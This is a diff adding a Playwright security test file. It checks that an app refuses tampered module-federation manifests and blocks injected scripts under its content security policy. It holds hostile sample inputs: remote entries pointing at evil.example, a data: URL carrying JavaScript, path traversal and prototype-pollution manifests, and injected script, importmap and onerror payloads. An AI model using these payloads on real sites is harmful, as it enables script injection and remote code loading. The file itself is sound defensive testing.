@@ -1,0 +1,109 @@
+import type { Page } from '@playwright/test';
+import { expect, test } from '../../fixtures/composition.ts';
+import { RemoteArea } from '../../pages/remote-area.ts';
+
+const EVIL = 'https://evil.example';
+
+/** Whether anything of the attack has run, and what was asked of its origin. */
+async function watch(page: Page): Promise<{ asked: string[]; ran: () => Promise<boolean> }> {
+  const asked: string[] = [];
+  await page.route(`${EVIL}/**`, (route) => {
+    asked.push(route.request().url());
+    return route.fulfill({
+      contentType: 'text/javascript',
+      headers: { 'access-control-allow-origin': '*' },
+      body: 'globalThis.attacked = true; export const init = () => {}, get = () => {};',
+    });
+  });
+  return { asked, ran: () => page.evaluate(() => 'attacked' in globalThis) };
+}
+
+test.beforeEach(async ({ composition, page, signIn }) => {
+  await composition.compose();
+  await signIn(page, 'admin');
+});
+
+test('whatever a manifest says, nothing from another place is asked for or run', async ({
+  composition,
+  page,
+}) => {
+  const area = new RemoteArea(page);
+  const { asked, ran } = await watch(page);
+  const { admin } = composition.remotes;
+  const chat = { ...composition.remotes.chat, entry: `${EVIL}/remoteEntry.js` };
+  const inCode = 'data:text/javascript,globalThis.attacked=true';
+  const manifests: Record<string, string> = {
+    'an evil origin': JSON.stringify({ chat, admin }),
+    'an evil fallback': JSON.stringify({
+      chat: { ...chat, requires: { '@homie/ui': '^99.0.0' }, fallback: chat },
+      admin,
+    }),
+    'code as an address': JSON.stringify({ chat: { ...chat, entry: inCode }, admin }),
+    'an address with a backslash': JSON.stringify({
+      chat: { ...chat, entry: '/\\evil.example/e.js' },
+      admin,
+    }),
+    'an address that climbs': JSON.stringify({
+      chat: { ...chat, entry: '/remotes/chat/../../rest/v1/e.js' },
+      admin,
+    }),
+    'an address with a password': JSON.stringify({
+      chat: { ...chat, entry: admin.entry.replace('://', '://user:password@') },
+      admin,
+    }),
+    'a part of every object': `{"__proto__":${JSON.stringify(chat)},"constructor":${JSON.stringify(chat)}}`,
+  };
+  for (const [what, remotes] of Object.entries(manifests)) {
+    await test.step(what, async () => {
+      const body = `{"schemaVersion":1,"revision":2,"remotes":${remotes}}`;
+      await page.route('**/remotes.json', (route) =>
+        route.fulfill({ contentType: 'application/json', body }),
+      );
+      await page.evaluate(() => localStorage.removeItem('homie-remotes'));
+      await page.goto('/app');
+      await expect(area.panel('The chat')).toBeVisible();
+      await expect(area.retry).toBeVisible();
+      await page.unroute('**/remotes.json');
+    });
+  }
+  expect(asked).toEqual([]);
+  expect(await ran()).toBe(false);
+});
+
+test('a script that somebody brings into the page does not run without the nonce, which is out of reach', async ({
+  browser,
+  composition,
+}) => {
+  // A page of its own: violations of the policy are what is expected here.
+  const page = await browser.newPage({ baseURL: composition.server.url });
+  const { asked, ran } = await watch(page);
+  const injected =
+    '<script>globalThis.attacked = true</script>' +
+    `<script src="${EVIL}/injected.js"></script>` +
+    `<script type="importmap">{"imports":{"/":"${EVIL}/"}}</script>` +
+    '<img src="x" onerror="globalThis.attacked = true">';
+  await page.route('**/auth/sign-in', async (route) => {
+    const response = await route.fetch();
+    const html = await response.text();
+    await route.fulfill({ response, body: html.replace('<head>', `<head>${injected}`) });
+  });
+  const violations: string[] = [];
+  page.on('console', (message) => {
+    if (/content security policy/i.test(message.text())) violations.push(message.text());
+  });
+  await page.goto('/auth/sign-in');
+  await expect(page.getByRole('tab', { name: 'Sign In' })).toBeVisible();
+  const kept = await page.evaluate(async (evil) => {
+    const imported = await import(`${evil}/imported.js`).then(
+      () => 'imported',
+      () => 'refused',
+    );
+    const nonces = [...document.querySelectorAll('script')].map(({ nonce }) => nonce);
+    return { imported, nonces: nonces.filter(Boolean) };
+  }, EVIL);
+  expect(kept).toEqual({ imported: 'refused', nonces: [] });
+  expect(await ran()).toBe(false);
+  expect(asked).toEqual([]);
+  expect(violations.length).toBeGreaterThanOrEqual(4);
+  await page.close();
+});
